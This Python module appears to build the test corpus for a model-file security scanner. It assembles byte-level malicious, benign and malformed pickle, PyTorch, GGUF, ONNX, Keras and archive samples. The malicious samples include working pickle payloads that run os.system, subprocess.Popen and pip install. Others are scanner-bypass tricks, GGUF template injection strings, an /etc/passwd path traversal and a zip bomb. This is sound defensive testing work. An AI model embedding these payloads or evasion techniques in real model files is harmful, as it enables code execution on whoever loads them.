"""The test corpus: malicious, benign and malformed model files of every inspected format, built from bytes.

Malicious samples follow public bypass reports of picklescan / modelscan / fickling / ModelAudit (memoised
STACK_GLOBAL, INST/OBJ, getattr chains, operator.attrgetter, renamed data.pkl, broken CRC, a second pickle after a
benign one, protocol 0 text, unicode names, pip.main, runpy._run_code, numpy object arrays, joblib, nested
archives, GGUF chat-template SSTI, Keras Lambda). Used by tests/formats and by bench/formats_bench.py."""

from __future__ import annotations

import pickle
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path

from . import builders as b


@dataclass(frozen=True)
class Sample:
    name: str
    data: bytes
    label: str  # malicious, benign, malformed
    technique: str
    fmt: str  # expected top-level format


def _os_system() -> bytes:
    return b.call("os", "system", b.ustr("echo pwned"))


def _pickles() -> list[Sample]:
    memo_stack_global = (
        b.proto(4)
        + b.ustr("posix")
        + b.MEMOIZE
        + b.ustr("system")
        + b.MEMOIZE
        + b.POP
        + b.POP
        + b.binget(0)
        + b.binget(1)
        + b.STACK_GLOBAL
        + b.ustr("id")
        + b.TUPLE1
        + b.REDUCE
        + b.STOP
    )
    getattr_chain = (
        b.proto(2)
        + b.glob("builtins", "getattr")
        + b.MARK
        + b.glob("builtins", "__import__")
        + b.MARK
        + b.ustr("os")
        + b.TUPLE
        + b.REDUCE
        + b.ustr("system")
        + b.TUPLE
        + b.REDUCE
        + b.MARK
        + b.ustr("id")
        + b.TUPLE
        + b.REDUCE
        + b.STOP
    )
    attrgetter = (
        b.proto(2)
        + b.glob("_operator", "attrgetter")
        + b.MARK
        + b.ustr("system")
        + b.TUPLE
        + b.REDUCE
        + b.MARK
        + b.glob("importlib", "import_module")
        + b.MARK
        + b.ustr("os")
        + b.TUPLE
        + b.REDUCE
        + b.TUPLE
        + b.REDUCE
        + b.STOP
    )
    partial = (
        b.proto(2) + b.glob("functools", "partial") + b.MARK + b.glob("os", "system") + b.ustr("id") + b.TUPLE + b.REDUCE + b.EMPTY_TUPLE + b.REDUCE + b.STOP
    )
    inner = _os_system()
    nested = b.proto(2) + b.glob("_pickle", "loads") + b.MARK + b.binbytes(inner) + b.TUPLE + b.REDUCE + b.STOP
    hidden_nested = b.proto(2) + b.EMPTY_DICT + b.ustr("blob") + b.binbytes(inner) + b.SETITEM + b.STOP  # a payload for a later loads
    fullwidth = b.proto(4) + b.ustr("\uff4f\uff53") + b.ustr("system") + b.STACK_GLOBAL + b.ustr("id") + b.TUPLE1 + b.REDUCE + b.STOP
    truncated = _os_system()[:-1]
    ext = b.proto(2) + b"\x82\x01" + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE + b.STOP
    dyn_global = b.proto(4) + b.glob("builtins", "str") + b.EMPTY_TUPLE + b.REDUCE + b.ustr("x") + b.STACK_GLOBAL + b.STOP
    return [
        Sample("reduce_os_system.pkl", _os_system(), "malicious", "REDUCE os.system (protocol 2)", "pickle"),
        Sample("proto0_text.pkl", b"cos\nsystem\n(S'echo pwned'\ntR.", "malicious", "protocol 0 text opcodes", "pickle"),
        Sample("inst_opcode.pkl", b"(S'id'\nios\nsystem\n.", "malicious", "INST opcode", "pickle"),
        Sample("obj_opcode.pkl", b.proto(1) + b"(" + b.glob("subprocess", "check_output") + b"(S'id'\nlo.", "malicious", "OBJ opcode", "pickle"),
        Sample(
            "newobj_popen.pkl",
            b.proto(2) + b.glob("subprocess", "Popen") + b.MARK + b.ustr("id") + b.TUPLE + b.NEWOBJ + b.STOP,
            "malicious",
            "NEWOBJ subprocess.Popen",
            "pickle",
        ),
        Sample("memo_stack_global.pkl", memo_stack_global, "malicious", "STACK_GLOBAL with memoised strings", "pickle"),
        Sample("getattr_chain.pkl", getattr_chain, "malicious", "builtins.getattr(__import__('os'), 'system')", "pickle"),
        Sample("attrgetter.pkl", attrgetter, "malicious", "operator.attrgetter + importlib", "pickle"),
        Sample("functools_partial.pkl", partial, "malicious", "functools.partial wrapper", "pickle"),
        Sample(
            "runpy_run_code.pkl", b.call("runpy", "_run_code", b.ustr("import os; os.system('id')"), b.EMPTY_DICT), "malicious", "runpy._run_code", "pickle"
        ),
        Sample(
            "pip_main.pkl",
            b.call("pip", "main", b.EMPTY_LIST + b.MARK + b.ustr("install") + b.ustr("evil-pkg") + b.APPENDS),
            "malicious",
            "pip.main install",
            "pickle",
        ),
        Sample("builtins_exec.pkl", b.call("__builtin__", "exec", b.ustr("import os")), "malicious", "py2 __builtin__.exec alias", "pickle"),
        Sample(
            "numpy_runstring.pkl",
            b.call("numpy.testing._private.utils", "runstring", b.ustr("import os"), b.EMPTY_DICT),
            "malicious",
            "numpy runstring (picklescan bypass)",
            "pickle",
        ),
        Sample("torch_load_from_bytes.pkl", b.call("torch.storage", "_load_from_bytes", b.binbytes(_os_system())), "malicious", "nested torch load", "pickle"),
        Sample("timeit.pkl", b.call("timeit", "timeit", b.ustr("__import__('os').system('id')")), "malicious", "timeit.timeit code string", "pickle"),
        Sample("nested_loads.pkl", nested, "malicious", "pickle.loads of an embedded pickle", "pickle"),
        Sample("hidden_nested.pkl", hidden_nested, "malicious", "embedded malicious pickle in a bytes value", "pickle"),
        Sample("second_pickle.pkl", pickle.dumps({"ok": 1}, protocol=2) + _os_system(), "malicious", "malicious pickle after a benign one", "pickle"),
        Sample("fullwidth_module.pkl", fullwidth, "malicious", "unicode (fullwidth) module name", "pickle"),
        Sample("truncated_after_payload.pkl", truncated, "malicious", "payload before a truncation (no STOP)", "pickle"),
        Sample("ext_opcode.pkl", ext, "malicious", "EXT1 extension-registry import", "pickle"),
        Sample("dynamic_stack_global.pkl", dyn_global, "malicious", "STACK_GLOBAL on computed operands", "pickle"),
        Sample("unknown_module.pkl", b.call("evil_helpers.payload", "run"), "malicious", "import of an unknown module", "pickle"),
        Sample("disguised.safetensors", _os_system(), "malicious", "pickle behind a .safetensors name", "pickle"),
        Sample("weights.dat", b.call("webbrowser", "open", b.ustr("http://x")), "malicious", "pickle behind an opaque extension", "pickle"),
        Sample(
            "legacy_torch_evil.pt",
            b.legacy_torch(b.torch_state_pickle()[:-1] + b.POP + b.glob("os", "system") + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE + b.STOP),
            "malicious",
            "legacy torch.save with payload",
            "pytorch-legacy",
        ),
    ]


def _containers() -> list[Sample]:
    evil = _os_system()
    torch_evil = b.torch_state_pickle(extra=b.POP + b.glob("posix", "system") + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE)
    bad_crc = bytearray(b.torch_zip(evil, folder="model"))
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):  # zero the first member's CRC in both headers
        at = bytes(bad_crc).find(signature) + offset
        bad_crc[at : at + 4] = b"\x00\x00\x00\x00"
    joblib_evil = _joblib(payload=b.POP + b.glob("os", "system") + b.MARK + b.ustr("id") + b.TUPLE + b.REDUCE)
    obj_npy = b.npy("|O", (1,), b.call("os", "system", b.ustr("id")))
    inner_zip = b.zip_bytes({"weights.pkl": evil})
    return [
        Sample(
            "torch_renamed_folder.pt", b.torch_zip(torch_evil, folder="innocent_name"), "malicious", "torch zip, data.pkl under any folder name", "pytorch-zip"
        ),
        Sample(
            "torch_extra_pickle.bin",
            b.zip_bytes({"archive/data.pkl": b.torch_state_pickle(), "archive/extra/payload.pickle": evil, "archive/version": b"3\n"}),
            "malicious",
            "torch zip with a second inner pickle",
            "pytorch-zip",
        ),
        Sample("torch_bad_crc.pth", bytes(bad_crc), "malicious", "torch zip with zeroed CRCs", "pytorch-zip"),
        Sample("torch_name_mismatch.pt", _zip_name_mismatch(b.torch_zip(evil)), "malicious", "zip local/central file name mismatch", "pytorch-zip"),
        Sample("torch_flag_bits.pt", _zip_flag_bits(b.torch_zip(evil)), "malicious", "zip encryption flag set on a stored pickle", "pytorch-zip"),
        Sample("torch_truncated.pt", b.torch_zip(evil)[:-40], "malicious", "torch zip without central directory (truncated)", "pytorch-zip"),
        Sample(
            "torch_deflated.pt",
            b.zip_bytes({"a/data.pkl": torch_evil, "a/version": b"3\n"}, deflate=True),
            "malicious",
            "torch zip, deflated members",
            "pytorch-zip",
        ),
        Sample("object_array.npy", obj_npy, "malicious", "numpy object array (pickle inside)", "numpy"),
        Sample(
            "object_array.npz",
            b.zip_bytes({"arr_0.npy": obj_npy, "arr_1.npy": b.npy("<f4", (2,), b"\x00" * 8)}),
            "malicious",
            "npz with an object array",
            "npz",
        ),
        Sample("model.joblib", joblib_evil, "malicious", "joblib: payload after raw array bytes", "joblib"),
        Sample("model_zlib.joblib", zlib.compress(evil), "malicious", "joblib zlib-compressed pickle", "pickle"),
        Sample("bundle.tar", b.tar_bytes({"model/weights.pkl": evil}), "malicious", "tar with a pickle", "tar"),
        Sample("bundle.tar.gz", b.tar_bytes({"m/model.bin": b.torch_zip(evil)}, mode="w:gz"), "malicious", "tar.gz with a torch zip", "tar"),
        Sample("nested.zip", b.zip_bytes({"level1.tar": b.tar_bytes({"level2.zip": inner_zip})}), "malicious", "zip > tar > zip > pickle nesting", "zip"),
        Sample(
            "evil.keras",
            b.zip_bytes({"config.json": _keras_config(lambda_layer=True), "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n"}),
            "malicious",
            "Keras Lambda layer",
            "keras",
        ),
        Sample(
            "custom.keras",
            b.zip_bytes({"config.json": _keras_config(module="evil_pkg.layers"), "metadata.json": b"{}"}),
            "malicious",
            "Keras custom object module",
            "keras",
        ),
        Sample(
            "evil.h5",
            b"\x89HDF\r\n\x1a\n" + b"\x00" * 200 + b"model_config\x00" + _keras_config(lambda_layer=True) + b"\x00" * 64,
            "malicious",
            "HDF5 model_config with Lambda",
            "h5",
        ),
        Sample(
            "ssti.gguf",
            b.gguf({"general.architecture": "llama", "general.name": "x", "tokenizer.chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
            "malicious",
            "GGUF chat template SSTI",
            "gguf",
        ),
        Sample(
            "ssti_obfuscated.gguf",
            b.gguf({"general.architecture": "llama", "tokenizer.chat_template": "{{ cycler|attr('\\x5f\\x5finit\\x5f\\x5f') }}"}),
            "malicious",
            "GGUF chat template attr filter + escaped underscores",
            "gguf",
        ),
        Sample("escape.onnx", b.onnx_model(location="../../../../etc/passwd"), "malicious", "ONNX external data outside the folder", "onnx"),
        Sample("customop.onnx", b.onnx_model(node_domain="com.evil.ops", opset_domains=("", "com.evil.ops")), "malicious", "ONNX custom op domain", "onnx"),
        Sample("pyfunc/saved_model.pb", b.saved_model(["Placeholder", "PyFunc", "Identity"]), "malicious", "SavedModel PyFunc op", "tf-savedmodel"),
        Sample("writefile/saved_model.pb", b.saved_model(["Const", "WriteFile"]), "malicious", "SavedModel WriteFile op", "tf-savedmodel"),
        Sample(
            "duplicate_keys.safetensors",
            _duplicate_key_safetensors(),
            "malicious",
            "safetensors header with a repeated tensor key (parser differential)",
            "safetensors",
        ),
        Sample("bomb.zip", b.zip_bytes({"zeros.bin": b"\x00" * (24 << 20)}, deflate=True), "malicious", "zip bomb (ratio > 200)", "zip"),
    ]


def _zip_name_mismatch(data: bytes) -> bytes:
    """Rename the first member in its local header only (central directory keeps 'archive/data.pkl')."""
    out = bytearray(data)
    at = data.find(b"PK\x03\x04") + 30
    out[at : at + 7] = b"zzzzzzz"
    return bytes(out)


def _zip_flag_bits(data: bytes) -> bytes:
    """Set the 'encrypted' general-purpose flag on the first member in both headers."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature) + offset
        out[at] |= 1
    return bytes(out)


def _duplicate_key_safetensors() -> bytes:
    entry = '{"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}'
    header = ('{"w": ' + entry + ', "w": ' + entry + "}").encode()
    return struct.pack("<Q", len(header)) + header + b"\x00" * 4


def _keras_config(*, lambda_layer: bool = False, module: str = "keras.layers") -> bytes:
    layers = [{"class_name": "Dense", "module": module, "config": {"units": 4}, "registered_name": None}]
    if lambda_layer:
        layers.append(
            {"class_name": "Lambda", "module": "keras.layers", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}}
        )
    import json

    return json.dumps({"class_name": "Sequential", "module": "keras", "config": {"name": "s", "layers": layers}}).encode()


def _joblib(payload: bytes = b"") -> bytes:
    """joblib.dump layout: pickle with a NumpyArrayWrapper whose array bytes follow its BUILD, then the rest."""
    dtype = (
        b.glob("numpy", "dtype")
        + b.MARK
        + b.ustr("f8")
        + b.NEWFALSE
        + b.NEWTRUE
        + b.TUPLE
        + b.REDUCE
        + b.MARK
        + b.bint(3)
        + b.ustr("<")
        + b.NONE
        + b.NONE
        + b.NONE
        + b.bint(255)
        + b.bint(255)
        + b.bint(0)
        + b.TUPLE
        + b.BUILD
    )
    state = (
        b.EMPTY_DICT
        + b.MARK
        + b.ustr("subclass")
        + b.glob("numpy", "ndarray")
        + b.ustr("shape")
        + b.bint(3)
        + b.TUPLE1
        + b.ustr("order")
        + b.ustr("C")
        + b.ustr("dtype")
        + dtype
        + b.ustr("allow_mmap")
        + b.NEWTRUE
        + b.SETITEMS
    )
    wrapper = b.glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b.EMPTY_TUPLE + b.NEWOBJ + state + b.BUILD
    array = b"\x03\xff\xff\xff" + struct.pack("<3d", 1.0, 2.0, 3.0)  # padding length byte, padding, 3 float64
    head = b.proto(4) + b.glob("sklearn.linear_model._base", "LinearRegression") + b.EMPTY_TUPLE + b.NEWOBJ + b.EMPTY_DICT + b.MARK + b.ustr("coef_") + wrapper
    return head + array + b.SETITEMS + b.BUILD + payload + b.STOP


def _benign() -> list[Sample]:
    meta = {"format": "pt", "modelspec.author": "Example Labs"}
    good_st = b.safetensors({"a": ("F32", [2, 2], (0, 16)), "b": ("F16", [4], (16, 24))}, b"\x00" * 24, meta)
    chat = (
        "{%- set ns = namespace(first=true) -%}{%- for message in messages -%}<|im_start|>{{ message['role'] }}\n"
        "{{ message['content'] | trim }}<|im_end|>\n{%- endfor -%}{%- if add_generation_prompt -%}<|im_start|>assistant\n{%- endif -%}"
    )
    kv = {
        "general.architecture": "qwen2",
        "general.name": "Assistant",
        "general.organization": "Example Labs",
        "general.license": "apache-2.0",
        "general.base_model.count": 1,
        "general.base_model.0.name": "Qwen2.5 0.5B Instruct",
        "general.base_model.0.organization": "Qwen",
        "general.base_model.0.repo_url": "https://huggingface.co/Qwen/Qwen2.5-0.5B-Instruct",
        "tokenizer.chat_template": chat,
        "tokenizer.ggml.tokens": ["<s>", "</s>"] + [f"t{i}" for i in range(500)],
        "tokenizer.ggml.token_type": [1] * 502,
    }
    numpy_pickle = (
        b.proto(2)
        + b.glob("numpy.core.multiarray", "_reconstruct")
        + b.MARK
        + b.glob("numpy", "ndarray")
        + b.bint(0)
        + b.TUPLE1
        + b.binbytes(b"b")
        + b.TUPLE
        + b.REDUCE
        + b.STOP
    )
    return [
        Sample("plain_dict_p0.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True)}, protocol=0), "benign", "plain data, protocol 0", "pickle"),
        Sample(
            "plain_dict_p5.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": {1, 2}, "c": b"\x00" * 300}, protocol=5), "benign", "plain data, protocol 5", "pickle"
        ),
        Sample("numpy_reconstruct.pkl", numpy_pickle, "benign", "numpy array pickle", "pickle"),
        Sample("state_dict.pt", b.torch_zip(b.torch_state_pickle()), "benign", "PyTorch zip state dict", "pytorch-zip"),
        Sample("legacy_state.bin", b.legacy_torch(b.torch_state_pickle()), "benign", "legacy torch.save", "pytorch-legacy"),
        Sample("model.safetensors", good_st, "benign", "valid safetensors", "safetensors"),
        Sample("assistant.gguf", b.gguf(kv), "benign", "GGUF with metadata and a normal template", "gguf"),
        Sample("floats.npy", b.npy("<f4", (2, 2), struct.pack("<4f", 1, 2, 3, 4)), "benign", "numeric npy", "numpy"),
        Sample("arrays.npz", b.zip_bytes({"w.npy": b.npy("<f4", (2,), b"\x00" * 8)}), "benign", "numeric npz", "npz"),
        Sample("clf.joblib", _joblib(), "benign", "joblib sklearn model with a numpy array", "joblib"),
        Sample("good.keras", b.zip_bytes({"config.json": _keras_config(), "metadata.json": b"{}"}), "benign", "Keras without Lambda", "keras"),
        Sample("good.onnx", b.onnx_model(location="weights.bin"), "benign", "ONNX with relative external data", "onnx"),
        Sample("good/saved_model.pb", b.saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"]), "benign", "SavedModel with saver ops", "tf-savedmodel"),
        Sample("bundle_ok.tar", b.tar_bytes({"m/model.safetensors": good_st, "m/readme.txt": b"hello"}), "benign", "tar with safetensors", "tar"),
        Sample("state.pkl.gz", __import__("gzip").compress(pickle.dumps([1, 2, 3], protocol=4)), "benign", "gzip pickle", "pickle"),
    ]


def _malformed() -> list[Sample]:
    overlap = b.safetensors({"a": ("F32", [2], (0, 8)), "b": ("F32", [2], (4, 12))}, b"\x00" * 12)
    return [
        Sample("overlap.safetensors", overlap, "malformed", "safetensors overlapping offsets", "safetensors"),
        Sample("huge_header.safetensors", struct.pack("<Q", 1 << 40) + b"{}", "malformed", "safetensors header length beyond the file", "safetensors"),
        Sample("bad_dtype.safetensors", b.safetensors({"a": ("F33", [1], (0, 4))}, b"\x00" * 4), "malformed", "safetensors unknown dtype", "safetensors"),
        Sample("truncated.gguf", b.gguf({"general.name": "x" * 50})[:40], "malformed", "GGUF cut inside its metadata", "gguf"),
        Sample("garbage.pkl", b"\x80\x02\xff\xfe\xfd", "malformed", "unknown opcode", "pickle"),
    ]


def corpus() -> list[Sample]:
    return _pickles() + _containers() + _benign() + _malformed()


def write(directory: Path) -> list[tuple[Sample, Path]]:
    out = []
    for sample in corpus():
        path = directory / sample.label / sample.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(sample.data)
        out.append((sample, path))
    return out
